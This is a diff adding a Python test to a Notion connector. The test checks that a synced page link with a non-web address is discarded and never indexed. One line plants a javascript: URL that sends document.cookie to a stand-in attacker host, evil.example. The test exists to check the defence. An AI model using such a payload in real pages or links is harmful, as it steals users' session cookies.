@@ -9,6 +9,7 @@ from litestar.testing import TestClient
 from appliance.knowledge import check_index, reindex
 from appliance.runtime import Runtime
 from tests.connectors.records_helpers import found, record_items, sync
+from tests.fakes.loopback import Reply
 from tests.fakes.notion_api import SECRET, FakeNotion, block
 
 
@@ -118,3 +119,15 @@ def test_removing_a_member_erases_their_pages_from_atom_and_the_index(
     assert rows == 0
     report = ada.blocking_portal.call(check_index, runtime.db, runtime.knowledge)
     assert (report.missing, report.stale, report.orphaned) == ([], [], [])
+
+
+def test_a_link_that_is_not_a_web_address_is_not_kept(ada: TestClient, notion: FakeNotion) -> None:
+    page = notion.add_page("Hostile", "A page whose link would run a script.")
+    listing = notion.route_search_for_test()
+    listing["results"][0]["url"] = "javascript:fetch('//evil.example/'+document.cookie)"
+    connection = connect_notion(ada)
+    notion.answer_next(Reply(200, listing))  # the sync's first request: the search
+    sync(ada, connection)
+    (item,) = record_items(ada, "notion")
+    assert item["remote_id"] == page and item["url"] is None
+    assert found(ada, "script")[0]["title"] == "Hostile" and not found(ada, "evil")
